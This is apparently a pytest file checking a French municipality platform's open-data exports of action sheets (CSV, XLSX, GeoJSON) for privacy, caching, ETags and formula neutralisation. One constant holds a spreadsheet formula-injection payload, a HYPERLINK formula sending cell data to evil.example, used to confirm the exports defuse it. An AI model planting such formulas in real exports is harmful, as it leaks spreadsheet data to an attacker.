"""The action sheets as open data: /api/communes/{slug}/actions.csv, actions.xlsx and
actions.geojson. Validated sheets for the public, without personal data; every sheet for those who
may see every sheet, never kept by a shared cache; formulas neutralised in both tables; ETag/304."""

import csv
import io
import json

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from revital.sheets.models import ActionSheet
from tests.conftest import MAIN, get
from tests.test_sheet_public import ELECTED, REVIEWER_ID_NAME, TECHNICIAN, make_sheets

API = f"/api/communes/{MAIN}"
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'


@pytest.fixture
def sheets(db):
    return make_sheets(db, validated_title=HOSTILE)


def csv_rows(response) -> list[dict]:
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


def xlsx_rows(response) -> list[list]:
    book = load_workbook(io.BytesIO(response.content))
    return [list(row) for row in book.active.iter_rows()]


def test_the_public_csv_holds_validated_sheets_neutralised(client, sheets):
    response = get(client, f"{API}/actions.csv")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert response.headers["cache-control"].startswith("public")
    rows = csv_rows(response)
    assert [int(r["number"]) for r in rows] == [sheets["validated"]]
    row = rows[0]
    assert row["title"] == "'" + HOSTILE
    assert row["cost_eur"] == "52500" and row["investment_eur"] == "50000" and row["operating_eur"] == "2500"
    assert row["requested_eur"] == "10000" and row["granted_eur"] == "21000" and row["remaining_eur"] == "21500"
    assert row["funding"].startswith("État – DETR – 21") and "Obtenu; Région Occitanie – Bourgs-centres" in row["funding"]
    assert row["start"] == "T1 2027" and row["end"] == "T2 2028"
    assert row["elected_referent_role"] == "Adjointe à l’urbanisme"
    assert "elected_referent" not in row and "technical_referent" not in row
    assert row["indicators"] == "Bancs posés (bancs) : 0 → 6"
    assert row["url"].endswith(f"/communes/{MAIN}/fiches/{sheets['validated']}")
    text = response.content.decode("utf-8-sig")
    assert ELECTED not in text and TECHNICIAN not in text and REVIEWER_ID_NAME not in text


def test_the_xlsx_opens_with_its_rows_and_no_formula(client, sheets):
    response = get(client, f"{API}/actions.xlsx")
    assert response.status_code == 200
    rows = xlsx_rows(response)
    assert rows[0][0].value == "Numéro" and rows[0][1].value == "Titre"
    assert len(rows) == 2
    title = rows[1][1]
    assert title.value == HOSTILE and title.data_type == "s"
    headings = [c.value for c in rows[0]]
    cost = rows[1][headings.index("Coût total HT (€)")]
    assert cost.value == 52500 and cost.data_type == "n"
    assert "Élu·e référent·e" not in headings
    assert all(ELECTED not in str(c.value) and TECHNICIAN not in str(c.value) for row in rows for c in row)


@pytest.mark.parametrize("persona", ["admin", "partner", "coordinator", "facilitator"])
def test_those_who_see_every_sheet_get_them_all_with_names(as_persona, sheets, persona):
    client = as_persona(persona)
    response = get(client, f"{API}/actions.csv")
    assert response.headers["cache-control"] == "private, no-store"
    rows = csv_rows(response)
    assert [int(r["number"]) for r in rows] == [sheets["validated"], sheets["draft"]]
    assert rows[0]["elected_referent"] == ELECTED and rows[1]["status"] == "Brouillon"
    book = get(client, f"{API}/actions.xlsx")
    assert book.headers["cache-control"] == "private, no-store"
    xrows = xlsx_rows(book)
    assert len(xrows) == 3 and "Élu·e référent·e" in [c.value for c in xrows[0]]


@pytest.mark.parametrize("persona", ["resident", "student", "other_admin"])
def test_others_signed_in_get_the_public_table(as_persona, sheets, persona):
    rows = csv_rows(get(as_persona(persona), f"{API}/actions.csv"))
    assert [int(r["number"]) for r in rows] == [sheets["validated"]]


def test_the_geojson_is_valid_and_has_no_personal_data(client, sheets):
    response = get(client, f"{API}/actions.geojson")
    assert response.status_code == 200 and response.headers["content-type"].startswith("application/geo+json")
    data = json.loads(response.content)
    assert data["type"] == "FeatureCollection"
    [feature] = data["features"]
    assert feature["type"] == "Feature" and feature["geometry"]["type"] == "Point"
    lon, lat = feature["geometry"]["coordinates"]
    assert 3.5 < lon < 3.7 and 44.4 < lat < 44.5
    assert set(feature["properties"]) == {"number", "title", "axis", "status", "status_label", "maturity",
                                          "maturity_label", "cost_eur", "place", "url"}
    assert feature["properties"]["cost_eur"] == 52500.0 and feature["properties"]["status"] == "validated"
    text = response.content.decode()
    assert ELECTED not in text and TECHNICIAN not in text and REVIEWER_ID_NAME not in text and "@" not in text


@pytest.mark.parametrize("name", ["actions.csv", "actions.xlsx", "actions.geojson"])
def test_etag_and_not_modified_until_a_change(client, db, sheets, name):
    first = get(client, f"{API}/{name}")
    etag = first.headers["etag"]
    assert get(client, f"{API}/{name}", headers={"If-None-Match": etag}).status_code == 304
    with db.transaction() as s:
        sheet = s.scalar(select(ActionSheet).where(ActionSheet.number == sheets["validated"]).order_by(ActionSheet.id.desc()))
        sheet.title = "Un autre titre"
    client.app.state.versions.memo.clear()
    again = get(client, f"{API}/{name}", headers={"If-None-Match": etag})
    assert again.status_code == 200 and again.headers["etag"] != etag


def test_unknown_commune(client):
    assert get(client, "/api/communes/nulle-part/actions.csv").status_code == 404
    assert get(client, "/api/communes/nulle-part/actions.geojson").status_code == 404
